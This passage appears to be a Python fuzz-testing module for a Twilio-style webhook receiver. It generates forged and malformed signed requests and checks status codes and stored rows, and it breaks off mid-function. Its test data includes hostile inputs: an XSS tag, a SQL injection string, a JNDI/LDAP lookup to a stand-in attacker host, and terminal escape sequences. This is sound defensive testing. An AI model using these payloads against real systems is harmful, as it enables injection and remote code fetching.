"""Hostile webhook requests for the callback receiver, and the oracle that judges answers.

Shared by `tests/reliability/test_receiver_fuzz.py` (a few hundred examples, stopping at the
first violation) and `bench/fuzz.py` (ten thousand and more, every violation counted), so
that the fast slice and the long run generate the same requests and apply the same rules.

A request is generated as data (`FuzzRequest`) and signed only when it is sent, because
what a signature covers depends on the server it goes to: the configured public URL, or
for a receiver without one, the loopback address it happens to be bound to.

The oracle does not ask the receiver what it thinks a request means. It parses each
request with the stdlib (`parse_qsl`, `json.loads`) and the limits the receiver documents
(`tui/server/form.py`), and from that alone says what the answer must be:

* never a 5xx: nothing here injects a storage fault;
* refused as malformed (400/413/415): nothing stored, no event, no message changed;
* not validly signed: 403, one event kept flagged as rejected and attached to nothing,
  no de-duplication key taken, and the messages table exactly as it was;
* validly signed and carrying a MessageSid (and, for a status callback, a status): 200,
  committed before the answer, TwiML for /incoming; without them: 400 and nothing stored;
* a forged copy sent first (same content, same idempotency token) does not stop the
  genuine request from being applied;
* after a run, /healthz answers 200 and its counters account for every request sent.
"""

from __future__ import annotations

import asyncio
import json
import re
import sqlite3
import uuid
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from enum import StrEnum
from hashlib import sha256
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, quote_plus, unquote_plus, urlsplit

import aiohttp
import yarl
from hypothesis import given, settings
from hypothesis import seed as hypothesis_seed
from hypothesis import strategies as st

from tui.domain.signature import Algorithm, compute_signature
from tui.server.form import MAX_BODY_BYTES, MAX_FIELDS
from tui.server.receiver import Receiver, ReceiverConfig
from tui.server.runner import ReceiverServer
from tui.server.verify import SignatureConfig
from tui.store import Store

TOKEN = "fuzz-auth-token-0123456789abcdef"
SHARED_KEY = "fuzz-shared-key"  # configured, so HMAC-SHA256 must be keyed by it
PUBLIC = "https://fuzz.example.ngrok.app"
ROUTES = ("/message-status", "/incoming")
REFUSALS = frozenset({400, 413, 415})  # form.BadRequest's documented statuses
MAX_QUERY = 7000
Pairs = tuple[tuple[str, str], ...]


class Target(StrEnum):
    PUBLIC = "public"  # --public-url set: the signed URL is PUBLIC + raw path
    LOCAL = "local"  # no public URL: the signed URL is what the server saw (Host header)


class Signing(StrEnum):
    VALID = "valid"  # HMAC-SHA1 by the auth token over exactly what is sent
    VALID_SHA256 = "valid-sha256"  # HMAC-SHA256 by the SharedKey, with a settings header
    VALID_PORT = "valid-port"  # over the URL's other port form (Twilio's :443 quirk)
    MISSING = "missing"
    EMPTY = "empty"
    GARBAGE = "garbage"
    WRONG_KEY = "wrong-key"
    OTHER_ROUTE = "other-route"  # a genuine signature replayed to the other path
    OTHER_ORIGIN = "other-origin"  # the tunnel mistake: signed for another origin
    TAMPERED = "tampered"  # signed, then the content changed
    SHA256_WITH_TOKEN = "sha256-with-token"  # the auth token where the SharedKey is due
    BAD_ALGORITHM = "bad-algorithm"  # a genuine SHA1 signature, an unsupported algorithm

    @property
    def valid(self) -> bool:
        return self in VALID_SIGNINGS


VALID_SIGNINGS = frozenset({Signing.VALID, Signing.VALID_SHA256, Signing.VALID_PORT})
FORGED_SIGNINGS = tuple(s for s in Signing if not s.valid)


class BodyHash(StrEnum):
    """What a JSON request's `bodySHA256` says about its body."""

    RIGHT = "right"
    WRONG = "wrong"  # the hash of other bytes
    UPPER = "upper"  # the right hash in uppercase hex: not the exact string Twilio sends
    ABSENT = "absent"  # the URL is signed but the body is not covered


class TokenKind(StrEnum):
    NONE = "none"
    FRESH = "fresh"  # a new I-Twilio-Idempotency-Token per send
    FIXED = "fixed"  # one token for every request that uses it (forged ones only)


FORM = "form"
JSON = "json"
OTHER = "other"
# Content types and how the receiver must read them (form.py: the media type before ';',
# stripped, case-insensitive). None sends no Content-Type header at all.
CONTENT_TYPES: dict[str | None, str] = {
    "application/x-www-form-urlencoded": FORM,
    "application/x-www-form-urlencoded; charset=UTF-8": FORM,
    "Application/X-WWW-Form-Urlencoded": FORM,
    "application/x-www-form-urlencoded;charset=latin-1": FORM,
    "application/json": JSON,
    "application/json; charset=utf-8": JSON,
    "APPLICATION/JSON": JSON,
    "text/plain": OTHER,
    "text/plain; charset=utf-8": OTHER,
    "multipart/form-data; boundary=fuzzboundary": OTHER,
    "application/xml": OTHER,
    "application/octet-stream": OTHER,
    "application/x-www-form-urlencoded-evil": OTHER,
    "application/jsonp": OTHER,
    "*/*": OTHER,
    "": OTHER,
    None: OTHER,
}


@dataclass(frozen=True, repr=False)
class FuzzRequest:
    target: Target
    route: str
    method: str  # GET or POST
    query: str  # the raw query string, exactly as sent and signed ("" for none)
    content_type: str | None
    body: bytes
    signing: Signing
    body_hash: BodyHash = BodyHash.RIGHT  # JSON only
    settings_header: str | None = None
    host: str | None = None  # a Host header to send instead of the real one
    token: TokenKind = TokenKind.NONE
    forged_first: bool = False  # send a forged copy first: it must not block this one
    garbage: str = ""  # the X-Twilio-Signature value for Signing.GARBAGE

    @property
    def kind(self) -> str:
        return "get" if self.method == "GET" else CONTENT_TYPES[self.content_type]

    @property
    def authentic(self) -> bool:
        """Would Twilio's validator (and so the receiver) accept this signature?"""
        if not self.signing.valid:
            return False
        return self.kind != JSON or self.body_hash is BodyHash.RIGHT

    def __repr__(self) -> str:
        # Bodies reach a megabyte; a falsifying example must stay readable.
        body = self.body if len(self.body) <= 300 else self.body[:300] + b"..."
        query = self.query if len(self.query) <= 300 else self.query[:300] + "..."
        return (
            f"FuzzRequest({self.method} {self.target.value}{self.route}?{query!r} "
            f"ct={self.content_type!r} signing={self.signing.value} hash={self.body_hash.value} "
            f"settings={self.settings_header!r} host={self.host!r} token={self.token.value} "
            f"forged_first={self.forged_first} garbage={self.garbage!r} "
            f"len={len(self.body)} body={body!r})"
        )


# --- the reference reading ----------------------------------------------------------------


def _form_pairs(text: str) -> Pairs | None:
    if len(text.split("&")) > MAX_FIELDS:
        return None
    try:
        return tuple(parse_qsl(text, keep_blank_values=True, errors="strict"))
    except (UnicodeDecodeError, ValueError):
        return None


def reference_fields(req: FuzzRequest) -> Pairs | None:
    """What the request says, read with the stdlib and the documented limits; None when it
    must be refused as malformed (400, 413 or 415)."""
    if req.method == "GET":
        return _form_pairs(req.query)
    if len(req.body) > MAX_BODY_BYTES:
        return None
    if req.kind == FORM:
        try:
            return _form_pairs(req.body.decode("ascii"))
        except UnicodeDecodeError:
            return None
    if req.kind == JSON:
        try:
            data = json.loads(req.body.decode("utf-8"))
        except (UnicodeDecodeError, ValueError):
            return None
        if not isinstance(data, dict) or len(data) > MAX_FIELDS:
            return None
        # form.py's documented reading: top-level values as text, nested ones as JSON.
        return tuple(
            (str(k), v if isinstance(v, str) else json.dumps(v))
            for k, v in data.items()
            if v is not None
        )
    return None


def reference_sid(fields: Pairs) -> str | None:
    """The MessageSid a webhook names (the first of each name counts, blanks fall through)."""
    first: dict[str, str] = {}
    for name, value in fields:
        first.setdefault(name, value)
    return first.get("MessageSid") or first.get("SmsSid") or first.get("SmsMessageSid") or None


def is_complete(route: str, fields: Pairs) -> bool:
    """Does an authentic request carry what the route requires to be stored?"""
    if reference_sid(fields) is None:
        return False
    if route == "/incoming":
        return True
    first: dict[str, str] = {}
    for name, value in fields:
        first.setdefault(name, value)
    return bool(first.get("MessageStatus") or first.get("SmsStatus"))


def _storable(text: str) -> str:
    # SQLite cannot hold lone surrogates (a JSON "\ud800" escape); the store keeps U+FFFD.
    return "".join("\ufffd" if "\ud800" <= ch <= "\udfff" else ch for ch in text)


# --- strategies ---------------------------------------------------------------------------

CONTROL = "".join(map(chr, [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0)]))
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e"
ODD = "<>&'\"=+%;#?/\\`${}[]|~^ \t\r\n"
MARKUP = (
    "<script>alert(1)</script>",
    "]]><![CDATA[",
    "<Response><Redirect>https://evil.example</Redirect></Response>",
    "&amp;&#0;&#x1F4A9;",
    "'; DROP TABLE messages; --",
    "[red]rich[/red] [link=https://evil.example]x[/link]",  # Textual/Rich markup
    "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n%x",
    "\u202eexe.txt",
    "\uff2d\uff45\uff53\uff53\uff41\uff47\uff45\u0301\u0301\u0301"  # fullwidth, stacked accents
    " Z\u0351\u0363\u0364a\u036bl\u0366go",
    "🦄👨‍👩‍👧‍👦🏳️‍🌈",
)
KNOWN_STATUSES = (
    "accepted",
    "scheduled",
    "canceled",
    "queued",
    "sending",
    "sent",
    "failed",
    "delivered",
    "undelivered",
    "receiving",
    "received",
    "read",
    "partially_delivered",
)
TWILIO_NAMES = (
    "AccountSid",
    "MessagingServiceSid",
    "From",
    "To",
    "Body",
    "NumMedia",
    "NumSegments",
    "ErrorCode",
    "ErrorMessage",
    "ChannelStatusMessage",
    "ApiVersion",
    "RawDlrDoneDate",
    "MediaUrl0",
    "MediaContentType0",
    "FromCity",
    "ToCountry",
    "SmsSid",
    "SmsMessageSid",
    "SmsStatus",
    "MessageStatus",
    "MessageSid",
)

hostile_chars = st.characters(codec="utf-8") | st.sampled_from(CONTROL + BIDI + INVISIBLE + ODD)


@st.composite
def long_text(draw: st.DrawFn) -> str:
    """1600+ characters (over SMS's segment limit) without drawing each one: a short
    hostile unit repeated, so generation stays cheap."""
    unit = draw(st.text(hostile_chars, min_size=1, max_size=12))
    size = draw(st.integers(1600, 6000))
    return (unit * (size // len(unit) + 1))[:size]


hostile_text: st.SearchStrategy[str] = st.one_of(
    st.text(max_size=30),
    st.text(hostile_chars, max_size=40),
    st.sampled_from(MARKUP),
    st.just(""),
    long_text(),
)
sids = st.one_of(
    st.builds(
        lambda n, p: f"{p}{n:032x}", st.integers(0, 2**128 - 1), st.sampled_from(["SM", "MM"])
    ),
    st.integers(0, 40).map(lambda n: f"SM{n:032x}"),  # a few SIDs recur: updates, not inserts
    hostile_text,
)
statuses = st.one_of(
    st.sampled_from(KNOWN_STATUSES),
    st.sampled_from(KNOWN_STATUSES).map(lambda s: f"  {s.upper()} "),
    hostile_text,
)
media_names = st.builds(
    lambda suffix: "MediaUrl" + suffix,
    st.one_of(
        st.integers(0, 12).map(str),
        st.integers(0, 2**70).map(str),
        st.integers(4300, 6000).map(lambda n: "7" * n),  # past int()'s digit limit
        st.text(st.characters(categories=["Nd", "No"]), min_size=1, max_size=3),
        st.text(max_size=4),
    ),
)
field_names = st.one_of(
    st.sampled_from(TWILIO_NAMES), media_names, st.text(hostile_chars, max_size=20)
)


@st.composite
def webhook_fields(draw: st.DrawFn) -> list[tuple[str, str]]:
    """A webhook's parameters: usually a SID and status, sometimes repeated or missing,
    among Twilio's other names and hostile ones, in any order."""
    pairs: list[tuple[str, str]] = []
    if draw(st.integers(0, 9)) > 0:
        pairs.append(("MessageSid", draw(sids)))
    if draw(st.integers(0, 9)) > 0:
        pairs.append(("MessageStatus", draw(statuses)))
    if draw(st.booleans()):
        pairs.append(("SmsStatus", draw(statuses)))
    pairs.extend(draw(st.lists(st.tuples(field_names, hostile_text), max_size=8)))
    if pairs and draw(st.integers(0, 4)) == 0:  # a repeated name with another value
        name, _ = draw(st.sampled_from(pairs))
        pairs.append((name, draw(hostile_text)))
    return list(draw(st.permutations(pairs)))


def _over_encode(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode("utf-8"))


# Every encoder turns text into ASCII that parse_qsl reads back as the same text.
ENCODERS: tuple[Callable[[str], str], ...] = (
    quote_plus,
    lambda s: quote(s, safe=""),
    lambda s: re.sub(r"%[0-9A-F]{2}", lambda m: m[0].lower(), quote(s, safe="")),  # %2b
    _over_encode,  # even letters escaped
    lambda s: quote(s, safe=":@/?!$'()*,;"),  # sub-delimiters left raw
)
# Fragments that are not clean encodings: lone and short escapes, truncated, overlong and
# surrogate UTF-8, bytes past U+10FFFF, IIS %u escapes, empty parts, nameless values.
JUNK_TOKENS = (
    "%",
    "%z",
    "%zz",
    "%2",
    "%%",
    "a=%C3",
    "b=%C0%AF",
    "c=%ED%A0%80",
    "d=%FF%FE",
    "e=%E2%82",
    "f=%F4%90%80%80",
    "g=%u00e9",
    "h=%00",
    "",
    "=",
    "==",
    "=x",
    "k=v=w",
    "+=+",
    "%2B=%26%3D",
    ";",
    "lid",
)


@st.composite
def encoded(draw: st.DrawFn, fields: Sequence[tuple[str, str]], *, junk: bool) -> str:
    encode = draw(st.sampled_from(ENCODERS))
    tokens = [
        encode(name)
        if not value and draw(st.integers(0, 5)) == 0
        else f"{encode(name)}={encode(value)}"
        for name, value in fields
    ]
    if junk and draw(st.integers(0, 3)) == 0:
        for token in draw(st.lists(st.sampled_from(JUNK_TOKENS), min_size=1, max_size=4)):
            tokens.insert(draw(st.integers(0, len(tokens))), token)
    return "&".join(tokens)


@st.composite
def sized(draw: st.DrawFn, text: str) -> str:
    """`text` with a `Pad` field bringing it to exactly the body limit, or past it."""
    target = draw(
        st.sampled_from(
            [
                MAX_BODY_BYTES - 1,
                MAX_BODY_BYTES,
                MAX_BODY_BYTES + 1,
                2 * MAX_BODY_BYTES,
                16 * MAX_BODY_BYTES,
            ]
        )
    )
    pad = target - len(text) - len("&Pad=")
    return text if pad < 0 else f"{text}&Pad={'x' * pad}"


@st.composite
def many_fields(draw: st.DrawFn, text: str) -> str:
    """`text` with blank fields up to exactly the field limit, or one past it, or far past."""
    target = draw(st.sampled_from([MAX_FIELDS - 1, MAX_FIELDS, MAX_FIELDS + 1, 4 * MAX_FIELDS]))
    have = len(text.split("&"))
    return text + "".join(f"&f{i}=" for i in range(max(0, target - have)))


@st.composite
def form_body(draw: st.DrawFn, fields: Sequence[tuple[str, str]], *, hostile: bool) -> bytes:
    text = draw(encoded(fields, junk=hostile))
    if hostile:
        shape = draw(st.integers(0, 9))
        if shape == 0:
            text = draw(sized(text))
        elif shape == 1:
            text = draw(many_fields(text))
        elif shape == 2:
            text = f"&{text}&&"
    body = text.encode("ascii")
    if hostile and draw(st.integers(0, 7)) == 0:  # raw bytes: not urlencoded, maybe not UTF-8
        raw = draw(st.binary(min_size=1, max_size=8).filter(lambda b: any(x > 0x7F for x in b)))
        at = draw(st.integers(0, len(body)))
        body = body[:at] + raw + body[at:]
    return body


JSON_NOT_OBJECTS = (b"[]", b"1", b'"MessageSid"', b"null", b"true", b"[{}]")
JSON_INVALID = (
    b"",
    b"{",
    b"{'MessageSid': 'SM1'}",
    b'{"a":}',
    b"\xef\xbb\xbf{}",  # a BOM
    b'{"MessageSid": "SM\xff"}',
    b'{"a": 1}{"b": 2}',
)
json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), hostile_text
)
json_values = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=6,
)


@st.composite
def json_body(draw: st.DrawFn, fields: Sequence[tuple[str, str]], *, hostile: bool) -> bytes:
    data: dict[str, Any] = dict(fields)
    if not hostile:
        return json.dumps(data, ensure_ascii=draw(st.booleans())).encode()
    shape = draw(st.integers(0, 9))
    if shape == 0:
        return draw(st.sampled_from(JSON_NOT_OBJECTS))
    if shape == 1:
        return draw(st.sampled_from(JSON_INVALID))
    if shape == 2:  # at, and past, the field limit
        extra = draw(st.sampled_from([MAX_FIELDS - len(data), MAX_FIELDS + 1 - len(data)]))
        data.update((f"k{i}", str(i)) for i in range(max(0, extra)))
    elif shape == 3:  # non-string values where strings are expected
        for name in draw(st.lists(st.sampled_from([*data, "NumMedia", "ErrorCode"]), max_size=4)):
            data[name] = draw(json_values)
    elif shape == 4:  # lone surrogates, legal as JSON escapes, impossible in UTF-8
        text = json.dumps(data)
        return (text[:-1] + (", " if data else "") + '"Body": "\\ud800x\\udfff"}').encode()
    return json.dumps(data, ensure_ascii=draw(st.booleans())).encode()


def _multipart(fields: Sequence[tuple[str, str]]) -> bytes:
    parts = [
        f'--fuzzboundary\r\nContent-Disposition: form-data; name="{quote(n)}"\r\n\r\n{v}\r\n'
        for n, v in fields
    ]
    return ("".join(parts) + "--fuzzboundary--\r\n").encode("utf-8", "surrogatepass")


header_text = st.text(
    st.characters(codec="ascii", categories=["L", "N", "P", "S"]), min_size=1, max_size=60
)
VALID_SHA1_SETTINGS = (
    None,
    "",
    "key=KS1",
    "algorithm=HMAC_SHA1",
    "algorithm=hmac_sha1",
    ",,,",
    "junk",
)
VALID_SHA256_SETTINGS = (
    "algorithm=HMAC_SHA256",
    "key=KS1,algorithm=HMAC_SHA256",
    " algorithm = hmac_sha256 ",
    "algorithm=HMAC_SHA256,algorithm=HMAC_SHA1",  # the first algorithm wins
    "foo,key=,algorithm=HMAC_SHA256,",
)
UNSUPPORTED_SETTINGS = (
    "algorithm=HMAC_SHA512",
    "algorithm=MD5",
    "key=KS1,algorithm=none",
    "algorithm=HMAC-SHA1",
)
HOSTS = st.one_of(
    st.builds(
        lambda host, port: f"{host}:{port}",
        st.sampled_from(["127.0.0.1", "localhost", "evil.example", "[::1]", "", "a:b"]),
        st.one_of(st.integers(-5, 10**6).map(str), header_text),
    ),
    st.sampled_from(["[::1", "::1", "evil.example", "é.example", "a@b", "h/x", "h?x"]),
    header_text,
)


@st.composite
def _query(draw: st.DrawFn, *, hostile: bool) -> str:
    """A POST's query string: usually none, sometimes a local id or stray parameters."""
    choice = draw(st.integers(0, 5))
    if choice == 0:
        return "lid=" + quote(draw(st.text(max_size=12)), safe="")
    if choice == 1:
        extra = draw(st.lists(st.tuples(st.text(max_size=6), hostile_text), max_size=3))
        return draw(encoded(extra, junk=hostile))[:MAX_QUERY]  # see webhook_requests
    return ""


@st.composite
def webhook_requests(
    draw: st.DrawFn,
    signings: Sequence[Signing],
    *,
    hostile: bool,
    targets: Sequence[Target] = (Target.PUBLIC,),
) -> FuzzRequest:
    """One request to one of the receiver's routes.

    `hostile` adds what must be refused as malformed: junk escapes, raw bytes, bodies and
    field counts at and over the limits, wrong content types, JSON that is not an object.
    """
    target = draw(st.sampled_from(targets))
    route = draw(st.sampled_from(ROUTES))
    signing = draw(st.sampled_from(signings))
    fields = draw(webhook_fields())
    kinds = [FORM, FORM, FORM, JSON, "get", *([OTHER] if hostile else [])]
    kind = draw(st.sampled_from(kinds))
    method = "GET" if kind == "get" else "POST"
    body = b""
    body_hash = BodyHash.RIGHT
    content_type: str | None = "application/x-www-form-urlencoded"
    if kind == "get":
        query = draw(encoded(fields, junk=hostile))
        if hostile and draw(st.integers(0, 9)) == 0:
            query = draw(many_fields(query))
        # aiohttp refuses a request line over 8190 bytes itself, before the receiver sees
        # it; cut there (a cut escape is just more junk for the reference to judge).
        query = query[:MAX_QUERY]
        content_type = None
    else:
        query = draw(_query(hostile=hostile))
        types = [t for t, k in CONTENT_TYPES.items() if k == kind]
        content_type = draw(st.sampled_from(types))
        if kind == FORM:
            body = draw(form_body(fields, hostile=hostile))
        elif kind == JSON:
            body = draw(json_body(fields, hostile=hostile))
            body_hash = (
                draw(st.sampled_from(BodyHash)) if not signing.valid or hostile else body_hash
            )
            digest = sha256(body if body_hash is not BodyHash.WRONG else body + b" ").hexdigest()
            if body_hash is not BodyHash.ABSENT:
                hashed = f"bodySHA256={digest.upper() if body_hash is BodyHash.UPPER else digest}"
                query = f"{query}&{hashed}" if query else hashed
        else:  # something that is not a webhook's encoding, under a type that is not one
            body = draw(
                st.one_of(
                    st.just(_multipart(fields)),
                    form_body(fields, hostile=False),
                    st.binary(max_size=200),
                )
            )
    if signing.valid:
        settings_header = draw(
            st.sampled_from(
                VALID_SHA256_SETTINGS if signing is Signing.VALID_SHA256 else VALID_SHA1_SETTINGS
            )
        )
    elif signing is Signing.BAD_ALGORITHM:
        settings_header = draw(st.sampled_from(UNSUPPORTED_SETTINGS))
    elif signing is Signing.SHA256_WITH_TOKEN:
        settings_header = "algorithm=HMAC_SHA256"
    else:
        settings_header = draw(
            st.one_of(
                st.none(),
                st.sampled_from([*VALID_SHA1_SETTINGS, *UNSUPPORTED_SETTINGS]),
                header_text,
            )
        )
    # A Host header only where it cannot spoil a genuine signature: it is part of the URL
    # the receiver checks when no public URL is set.
    host = None if signing.valid or draw(st.booleans()) else draw(HOSTS)
    tokens = [TokenKind.NONE, TokenKind.FRESH] + ([] if signing.valid else [TokenKind.FIXED])
    request = FuzzRequest(
        target=target,
        route=route,
        method=method,
        query=query,
        content_type=content_type,
        body=body,
        signing=signing,
        body_hash=body_hash,
        settings_header=settings_header,
        host=host,
        token=draw(st.sampled_from(tokens)),
        garbage=draw(header_text) if signing is Signing.GARBAGE else "",
    )
    if request.authentic and draw(st.integers(0, 4)) == 0:
        fields_read = reference_fields(request)
        if fields_read is not None and is_complete(route, fields_read):
            request = replace(request, forged_first=True, token=TokenKind.FRESH)
    return request


def signed_requests(targets: Sequence[Target] = (Target.PUBLIC,)) -> st.SearchStrategy[FuzzRequest]:
    """Genuine signatures over hostile but well-formed content."""
    return webhook_requests(sorted(VALID_SIGNINGS), hostile=False, targets=targets)


def forged_requests(targets: Sequence[Target] = (Target.PUBLIC,)) -> st.SearchStrategy[FuzzRequest]:
    """Missing, wrong, replayed and tampered signatures, malformed content included."""
    return webhook_requests(FORGED_SIGNINGS, hostile=True, targets=targets)


def malformed_requests(
    targets: Sequence[Target] = (Target.PUBLIC,),
) -> st.SearchStrategy[FuzzRequest]:
    """Any signature over content that is malformed as often as not."""
    return webhook_requests(list(Signing), hostile=True, targets=targets)


def any_request() -> st.SearchStrategy[FuzzRequest]:
    both = (Target.PUBLIC, Target.LOCAL)
    return st.one_of(signed_requests(both), forged_requests(both), malformed_requests(both))


# --- sending and judging ------------------------------------------------------------------


def _other_port_form(url: str) -> str:
    parts = urlsplit(url)
    if parts.port:
        netloc = parts.netloc.rsplit(":", 1)[0]
    else:
        netloc = f"{parts.netloc}:{443 if parts.scheme == 'https' else 80}"
    return parts._replace(netloc=netloc).geturl()


@dataclass(frozen=True)
class Violation:
    """One rule one answer broke, with the request that broke it."""

    request: FuzzRequest
    rule: str  # what went wrong, without the request: violations group by it
    step: str = ""  # "forged copy" for the copy sent before a genuine request

    def __str__(self) -> str:
        return f"{self.step + ': ' if self.step else ''}{self.request!r}\n    -> {self.rule}"


@dataclass
class Outcome:
    status: int
    content_type: str
    body: bytes


@dataclass
class Harness:
    """Two receivers (with and without a public URL) over one SQLite file, a client, and a
    read-only connection through which the oracle looks at what was committed."""

    db_path: Path
    store: Store | None = None
    servers: dict[Target, ReceiverServer] = field(default_factory=dict)
    http: aiohttp.ClientSession | None = None
    db: sqlite3.Connection | None = None
    statuses: Counter[int] = field(default_factory=Counter)
    signings: Counter[str] = field(default_factory=Counter)
    sent: Counter[Target] = field(default_factory=Counter)  # requests to the two routes
    last_event_id: int = 0

    async def start(self) -> None:
        self.store = await Store.open(self.db_path)
        configs = {
            Target.PUBLIC: SignatureConfig(TOKEN, public_url=PUBLIC, shared_key=SHARED_KEY),
            Target.LOCAL: SignatureConfig(TOKEN, public_url=None, shared_key=SHARED_KEY),
        }
        for target, config in configs.items():
            server = ReceiverServer(Receiver(self.store, ReceiverConfig(config)), port=0)
            await server.start()
            self.servers[target] = server
        # One keep-alive session, as a sender would use; the timeout turns a hang into a
        # violation ("no answer") instead of a stuck run.
        self.http = aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=30))
        self.db = sqlite3.connect(self.db_path, isolation_level=None)
        self.db.execute("PRAGMA query_only = 1")

    async def stop(self) -> None:
        if self.http is not None:
            await self.http.close()
        for server in self.servers.values():
            await server.stop()
        if self.store is not None:
            await self.store.close()
        if self.db is not None:
            self.db.close()

    # -- what the database says --

    def _fingerprint(self) -> tuple[Any, ...]:
        assert self.db is not None
        # Any change a callback makes moves one of these: a new row moves count and id, a
        # folded status moves change_seq, a mere sighting moves last_seen, media moves count.
        row = self.db.execute(
            "SELECT count(*), coalesce(max(id), 0), coalesce(max(change_seq), 0), "
            "total(last_seen), (SELECT count(*) FROM media) FROM messages"
        ).fetchone()
        return tuple(row)

    def _new_events(self) -> list[tuple[Any, ...]]:
        assert self.db is not None
        rows = self.db.execute(
            "SELECT id, message_id, applied, signature, rejected_reason, idempotency_token, "
            "content_hash FROM events WHERE id > ? ORDER BY id",
            (self.last_event_id,),
        ).fetchall()
        if rows:
            self.last_event_id = rows[-1][0]
        return rows

    # -- sending --

    def _signature_headers(
        self, req: FuzzRequest, signing: Signing, base: str, token: str | None
    ) -> dict[str, str]:
        path = req.route + (f"?{req.query}" if req.query else "")
        url = base + path
        params: Pairs = ()
        if req.kind == FORM:
            params = reference_fields(req) or ()
        headers: dict[str, str] = {}
        if req.settings_header is not None:
            headers["X-Twilio-Webhooks-Signature-Settings"] = req.settings_header
        if token is not None:
            headers["I-Twilio-Idempotency-Token"] = token
        if req.host is not None:
            headers["Host"] = req.host
        key, algorithm = TOKEN, Algorithm.HMAC_SHA1
        if signing is Signing.VALID_SHA256:
            key, algorithm = SHARED_KEY, Algorithm.HMAC_SHA256
        elif signing is Signing.SHA256_WITH_TOKEN:
            algorithm = Algorithm.HMAC_SHA256
        elif signing is Signing.WRONG_KEY:
            key = TOKEN[::-1]
        elif signing is Signing.VALID_PORT:
            url = _other_port_form(url)
        elif signing is Signing.OTHER_ROUTE:
            other = ROUTES[1 - ROUTES.index(req.route)]
            url = base + other + path[len(req.route) :]
        elif signing is Signing.OTHER_ORIGIN:
            url = (self.servers[Target.PUBLIC].base_url if base == PUBLIC else PUBLIC) + path
        elif signing is Signing.TAMPERED:
            if req.kind == FORM:
                params = (*params, ("\u2603Tampered", "\u2603"))
            else:
                url += "&tampered=1" if req.query else "?tampered=1"
        if signing is Signing.MISSING:
            return headers
        if signing is Signing.EMPTY:
            headers["X-Twilio-Signature"] = ""
        elif signing is Signing.GARBAGE:
            headers["X-Twilio-Signature"] = req.garbage
        else:
            headers["X-Twilio-Signature"] = compute_signature(url, params, key, algorithm)
        return headers

    async def _send(self, req: FuzzRequest, signing: Signing, token: str | None) -> Outcome | str:
        assert self.http is not None
        server = self.servers[req.target]
        base = PUBLIC if req.target is Target.PUBLIC else server.base_url
        headers = self._signature_headers(req, signing, base, token)
        skip: set[str] = set()
        if req.content_type is None:
            skip.add("Content-Type")  # else aiohttp would add application/octet-stream
        else:
            headers["Content-Type"] = req.content_type
        path = req.route + (f"?{req.query}" if req.query else "")
        url = yarl.URL(server.base_url + path, encoded=True)  # sent byte for byte as signed
        self.sent[req.target] += 1
        self.signings[signing.value] += 1
        try:
            async with self.http.request(
                req.method,
                url,
                data=req.body if req.method == "POST" else None,
                headers=headers,
                skip_auto_headers=skip,
            ) as resp:
                body = await resp.read()
                self.statuses[resp.status] += 1
                return Outcome(resp.status, resp.content_type, body)
        except (TimeoutError, aiohttp.ClientError) as exc:
            return f"no answer: {type(exc).__name__}: {exc}"

    # -- judging --

    async def exchange(self, req: FuzzRequest) -> list[Violation]:
        """Send `req` (after a forged copy, if asked) and return the rules it broke."""
        token = {TokenKind.NONE: None, TokenKind.FIXED: "IT-fixed-forged"}.get(
            req.token, f"IT-{uuid.uuid4()}"
        )
        violations: list[Violation] = []
        if req.forged_first:
            violations += await self._judge(req, Signing.WRONG_KEY, token, "forged copy")
        violations += await self._judge(req, req.signing, token, "")
        return violations

    async def _judge(
        self, req: FuzzRequest, signing: Signing, token: str | None, label: str
    ) -> list[Violation]:
        fields = reference_fields(req)
        authentic = signing.valid and req.authentic
        before = self._fingerprint()
        self._new_events()  # start from the newest event
        got = await self._send(req, signing, token)
        after = self._fingerprint()
        events = self._new_events()
        if isinstance(got, str):
            return [Violation(req, got, label)]
        problems: list[str] = []
        status = got.status
        if status >= 500:
            problems.append(f"5xx: {status} {got.body[:200]!r}")
        elif fields is None:
            # Malformed: refused before anything is stored, whatever the signature.
            if status not in REFUSALS:
                problems.append(f"malformed but answered {status}, not 400/413/415")
            if events or after != before:
                problems.append(f"malformed and refused, yet stored: events={events}")
        elif not authentic:
            if status != 403:
                problems.append(f"not authentic but answered {status}, not 403")
            if after != before:
                problems.append(f"unsigned data reached messages: {before} -> {after}")
            if status == 403:
                problems += _rejected_event_problems(events)
        elif not is_complete(req.route, fields):
            if status != 400:
                problems.append(f"authentic, no MessageSid/status, answered {status}, not 400")
            if events or after != before:
                problems.append(f"refused as incomplete, yet stored: events={events}")
        else:
            problems += self._accepted_problems(req, fields, got, events)
        return [Violation(req, p, label) for p in problems]

    def _accepted_problems(
        self, req: FuzzRequest, fields: Pairs, got: Outcome, events: list[tuple[Any, ...]]
    ) -> list[str]:
        assert self.db is not None
        if got.status != 200:
            return [f"authentic and complete but answered {got.status}: {got.body[:200]!r}"]
        problems: list[str] = []
        if req.route == "/incoming" and (
            got.content_type != "text/xml" or not got.body.startswith(b"<Response>")
        ):
            problems.append(f"/incoming answered {got.content_type} {got.body[:80]!r}, not TwiML")
        if len(events) > 1:
            problems.append(f"one request, {len(events)} events")
        sid = reference_sid(fields)
        assert sid is not None
        # A local id may attach the event to a row that already has another SID.
        by_lid = "lid" in unquote_plus(req.query, errors="replace")
        if events:
            _, message_id, _, verdict, reason, _, _ = events[0]
            if verdict != "valid" or reason is not None or message_id is None:
                problems.append(f"accepted event stored as {events[0]}")
            row = self.db.execute("SELECT sid FROM messages WHERE id = ?", (message_id,)).fetchone()
            if row is None:
                problems.append(f"200 before the message {message_id} was committed")
            elif not by_lid and row[0] != _storable(sid):
                problems.append(f"event attached to {row[0]!r}, not {sid!r}")
        elif not by_lid:  # a redelivery: the original must be there
            found = self.db.execute("SELECT 1 FROM messages WHERE sid = ?", (_storable(sid),))
